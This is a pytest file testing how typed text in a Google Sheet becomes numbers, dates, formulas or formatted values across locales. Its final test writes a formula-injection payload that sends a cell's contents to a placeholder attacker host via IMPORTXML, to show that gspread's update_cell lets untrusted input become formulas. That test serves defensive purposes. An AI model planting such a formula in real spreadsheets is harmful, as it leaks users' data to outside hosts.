"""USER_ENTERED, and what people type: formulas, numbers, dates by locale, percent, currency; and what stays text."""

from __future__ import annotations

import pytest


@pytest.fixture
def typed(write, read):
    """Return a typist: text → bare value and shown text."""

    def enter(text):
        write("Sheet1!A1", [[text]], "USER_ENTERED")
        ((bare,),) = read("Sheet1!A1", valueRenderOption="UNFORMATTED_VALUE")
        ((shown,),) = read("Sheet1!A1")
        return bare, shown

    return enter


@pytest.mark.parametrize(
    ("text", "bare", "shown"),
    [
        ("00123", 123, "123"),
        ("0042", 42, "42"),
        ("+447911123456", 447911123456, "447911123456"),
        ("+44 20 7946", "#ERROR!", "#ERROR!"),
        ("2,000,000.01", 2000000.01, "2,000,000.01"),
        ("1,2,3", "1,2,3", "1,2,3"),
        ("12%", 0.12, "12%"),
        ("£12.50", 12.5, "£12.50"),
        ("1e5", 100000, "1.00E+05"),
        ("(5)", -5, "-5"),
        (" 7 ", 7, "7"),
        ("true", True, "TRUE"),
        ("2020-01-01", 43831, "2020-01-01"),
        ("1/2/2026", 46054, "01/02/2026"),
        ("1/2", 46054, "1/2"),
        ("13/2/26", 46066, "13/02/2026"),
        ("2/13/2026", "2/13/2026", "2/13/2026"),
        ("31/02/2026", "31/02/2026", "31/02/2026"),
        ("1 Feb 2026", 46054, "1 Feb 2026"),
        ("Feb 1, 2026", 46054, "1 Feb 2026"),
        ("10:30", 0.4375, "10:30"),
        ("1/2/2026 18:00", 46054.75, "01/02/2026 18:00:00"),
        ("=1+1", 2, "2"),
        ("'=1+1", "=1+1", "=1+1"),
        ("'007", "007", "007"),
        ("3_1_0", "3_1_0", "3_1_0"),
        ("Non-numeric", "Non-numeric", "Non-numeric"),
        ("٣", "٣", "٣"),
        ("inf", "inf", "inf"),
    ],
)
def test_what_typing_makes_of_a_text(typed, text, bare, shown):
    """On a British sheet a typed text becomes what Google makes of it, and is shown in the format it brought along."""
    assert (bare, shown) == typed(text)


@pytest.mark.parametrize(
    ("locale", "text", "bare"),
    [
        ("en_US", "1/2/2026", 46024),
        ("en_GB", "1/2/2026", 46054),
        ("de_DE", "1.2.2026", 46054),
        ("de_DE", "1.234,5", 1234.5),
        ("en_GB", "1.234,5", "1.234,5"),
    ],
)
def test_typing_follows_the_locale(batch, typed, locale, text, bare):
    """The same text is another date or number on a sheet of another locale."""
    batch({"updateSpreadsheetProperties": {"properties": {"locale": locale}, "fields": "locale"}})

    assert bare == typed(text)[0]


def test_a_plain_text_cell_keeps_what_is_typed(batch, typed):
    """A cell formatted as plain text takes typed digits, dates and formulas as text."""
    cell = {"userEnteredFormat": {"numberFormat": {"type": "TEXT"}}}
    area = {"sheetId": 0, "endRowIndex": 1, "endColumnIndex": 1}
    batch({"repeatCell": {"range": area, "cell": cell, "fields": "userEnteredFormat.numberFormat"}})

    for text in ("007", "1/2", "=1+1"):
        assert (text, text) == typed(text)


def test_a_formatted_cell_keeps_its_format(batch, typed):
    """A typed number takes the format that its cell has already."""
    cell = {"userEnteredFormat": {"numberFormat": {"type": "CURRENCY", "pattern": '"€"#,##0.00'}}}
    area = {"sheetId": 0, "endRowIndex": 1, "endColumnIndex": 1}
    batch({"repeatCell": {"range": area, "cell": cell, "fields": "userEnteredFormat.numberFormat"}})

    assert (1234.5, "€1,234.50") == typed("1234.5")


@pytest.mark.parametrize(
    ("kind", "pattern", "number", "shown"),
    [
        ("DATE", "", 46054, "01/02/2026"),
        ("DATE", "d mmmm yyyy", 46054, "1 February 2026"),
        ("DATE", "ddd dd/mm/yy", 46054, "Sun 01/02/26"),
        ("DATE_TIME", "yyyy-mm-dd hh:mm", 46054.75, "2026-02-01 18:00"),
        ("TIME", "h:mm am/pm", 0.75, "6:00 PM"),
        ("NUMBER", "#,##0.00", 1234567.5, "1,234,567.50"),
        ("NUMBER", "000", 7, "007"),
        ("NUMBER", "0.##", 2.5, "2.5"),
        ("PERCENT", "0.0%", 0.125, "12.5%"),
        ("CURRENCY", "", -9.5, "-£9.50"),
        ("NUMBER", "0.00;(0.00)", -9.5, "(9.50)"),
        ("SCIENTIFIC", "", 12345, "1.23E+04"),
    ],
)
def test_number_formats_are_shown(batch, write, read, kind, pattern, number, shown):
    """A number is shown by the format of its cell, with the locale's own pattern where it has none."""
    form = {"type": kind, "pattern": pattern} if pattern else {"type": kind}
    area = {"sheetId": 0, "endRowIndex": 1, "endColumnIndex": 1}
    cell = {"userEnteredFormat": {"numberFormat": form}}
    batch({"repeatCell": {"range": area, "cell": cell, "fields": "userEnteredFormat.numberFormat"}})
    write("Sheet1!A1", [[number]])

    assert [[shown]] == read("Sheet1!A1")


def test_update_cell_of_gspread_lets_formulas_in(client, google):
    """gspread's update_cell is hard-wired to USER_ENTERED: what a partner wrote becomes a formula."""
    sheet = client.open_by_key(google.file.id).worksheet("Leads")
    sheet.update_cell(2, 2, '=IMPORTXML("https://evil.test/"&A2,"//a")')

    assert {"B2": '=IMPORTXML("https://evil.test/"&A2,"//a")'} == google.formulas("Leads")
